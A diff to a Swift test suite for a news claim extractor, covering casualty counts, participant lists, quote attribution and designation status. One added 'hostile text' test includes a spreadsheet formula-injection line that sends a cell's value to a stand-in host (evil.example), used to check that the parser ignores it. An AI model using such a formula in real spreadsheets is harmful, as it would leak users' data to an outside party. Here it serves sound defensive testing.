@@ -11,7 +11,9 @@ struct ClaimFinderTests {
     var description: String { text }
   }
 
-  @Test("count examples of ClaimRules", arguments: ClaimRules.examples.map { CountCase(text: $0.text, value: $0.value, unit: $0.unit) })
+  @Test(
+    "count examples of ClaimRules",
+    arguments: ClaimRules.examples.map { CountCase(text: $0.text, value: $0.value, unit: $0.unit) })
   func countExamples(_ c: CountCase) {
     let x = XDoc.extract([c.text], dates: c.text.contains("2003") ? [("2003", "2003")] : [])
     let counts = x.claims.filter { $0.attribute == "count" || $0.attribute == "magnitude" }
@@ -33,6 +35,38 @@ struct ClaimFinderTests {
     #expect(counts.map(\.qualifier) == ["MIN", "MORE_THAN"])
   }
 
+  @Test("counts with the verb before the number, or the state after the people noun")
+  func verbBefore() {
+    let x = XDoc.extract(["The blast killed 12 and wounded 30, leaving 2,000 people homeless."])
+    let counts = x.claims.filter { $0.attribute == "count" }
+    #expect(counts.map(\.number) == [12, 30, 2000])
+    #expect(counts.map(\.unit) == ["killed", "wounded", "displaced"])
+    let y = XDoc.extract(["Troops fired on protesters, killing at least 50."])
+    #expect(y.claims.first { $0.attribute == "count" }?.unit == "killed")
+    #expect(y.claims.first { $0.attribute == "count" }?.qualifier == "MIN")
+  }
+
+  @Test("a toll that 'rose to' a number, with the noun far before it")
+  func rises() {
+    let x = XDoc.extract([
+      "The number of people killed in the earthquake that hit Morocco on Friday rose to 2,122, officials said."
+    ])
+    let c = x.claims.first { $0.attribute == "count" }
+    #expect(c?.number == 2122)
+    #expect(c?.unit == "killed")
+  }
+
+  @Test("hostile text: quoted URLs, signed numbers and cities are not claims")
+  func hostile() {
+    let x = XDoc.extract([
+      "=HYPERLINK(\"https://evil.example/?leak=\"&A1,\"click\") was pasted.",
+      "Leaders met in New York. +1 delegations -- or @all of them -- attended the ceremony.",
+    ])
+    #expect(!x.claims.contains { $0.attribute == "quote" })
+    #expect(!x.claims.contains { $0.attribute == "count" })
+    #expect(!x.claims.contains { $0.subject?.hasPrefix("city:") == true })
+  }
+
   @Test("no count from a date or a year")
   func noDates() {
     let x = XDoc.extract(
@@ -43,13 +77,19 @@ struct ClaimFinderTests {
 
   @Test("participant lists resolve to a count")
   func lists() {
-    let a = XDoc.extract(["Russia is hosting talks attended by officials from China, Pakistan, and eight other countries."])
+    let a = XDoc.extract([
+      "Russia is hosting talks attended by officials from China, Pakistan, and eight other countries."
+    ])
     let pa = a.claims.first { $0.attribute == "participants" }
     #expect(pa?.number == 10)
     #expect(pa?.items == ["country:china", "country:pakistan"])
     #expect(!a.claims.contains { $0.attribute == "count" && $0.unit == "countries" })
-    let b = XDoc.extract(["Russia, China, Pakistan, India, Iran and five former Soviet Central Asian states joined the talks."])
+    let b = XDoc.extract([
+      "Russia, China, Pakistan, India, Iran and five former Soviet Central Asian states joined the talks."
+    ])
     #expect(b.claims.first { $0.attribute == "participants" }?.number == 10)
+    let d = XDoc.extract(["The talks drew delegates from ten countries."])
+    #expect(d.claims.first { $0.attribute == "participants" }?.number == 10)
     let c = XDoc.extract(["The summit brought together Japan, Canada, France and Italy."])
     #expect(c.claims.first { $0.attribute == "participants" }?.number == 4)
   }
@@ -63,7 +103,8 @@ struct ClaimFinderTests {
       "In his comments, Lavrov called the withdrawal a \"complete fiasco\".",
     ])
     let q = x.claims.filter { $0.attribute == "quote" }
-    #expect(q.map(\.value) == ["We will continue our contacts,", "No one is interested in paralysis.", "complete fiasco"])
+    #expect(
+      q.map(\.value) == ["We will continue our contacts,", "No one is interested in paralysis.", "complete fiasco"])
     #expect(q.map(\.holder) == ["person:lavrov", "person:peskov", "person:lavrov"])
   }
 
@@ -95,6 +136,40 @@ struct ClaimFinderTests {
     #expect(rec?.polarity == false)
     #expect(rec?.object == "group:taliban")
     #expect(rec?.subject == "country:russia")
-    #expect(s.contains { $0.attribute == "status.designated" && $0.subject == "country:russia" })
+    #expect(
+      s.contains {
+        $0.attribute == "status.designated" && $0.subject == "country:russia" && $0.object == "group:taliban"
+      })
+    let y = XDoc.extract([
+      "Russia had worked with the Taliban, even though it designated the group a terror organization in 2003.",
+      "Foreign Minister Amir Khan Muttaki takes part in the fifth session.",
+    ])
+    #expect(
+      y.claims.contains {
+        $0.attribute == "status.designated" && $0.subject == "country:russia" && $0.object == "group:taliban"
+      })
+    #expect(y.claims.contains { $0.attribute == "status.attended" && $0.subject == "person:muttaki" && $0.polarity })
+  }
+}
+
+@Suite("QuoteShapes")
+struct QuoteShapeTests {
+  @Test("single quotes, apostrophes, and quotes that run over two sentences")
+  func shapes() {
+    let d = XDoc.make([
+      "Prime Minister Rishi Sunak said the plan was ‘the right thing to do’ for the farmers’ future."
+    ])
+    let x = EventExtractor().extract(d, expressions: [])
+    let q = x.claims.filter { $0.attribute == "quote" }
+    #expect(q.map(\.value) == ["the right thing to do"])
+    #expect(q.first?.holder == "person:sunak")
+
+    // Two sentences of one paragraph: the quote runs over both, the speaker comes last.
+    let y = EventExtractor().extract(
+      XDoc.make(["“We will rebuild.", "It will take years,” Mayor Ana Lopez said."], paragraphs: [0, 0]),
+      expressions: [])
+    let yq = y.claims.filter { $0.attribute == "quote" }
+    #expect(yq.map(\.value) == ["We will rebuild.", "It will take years,"])
+    #expect(yq.map(\.holder) == ["person:lopez", "person:lopez"])
   }
 }
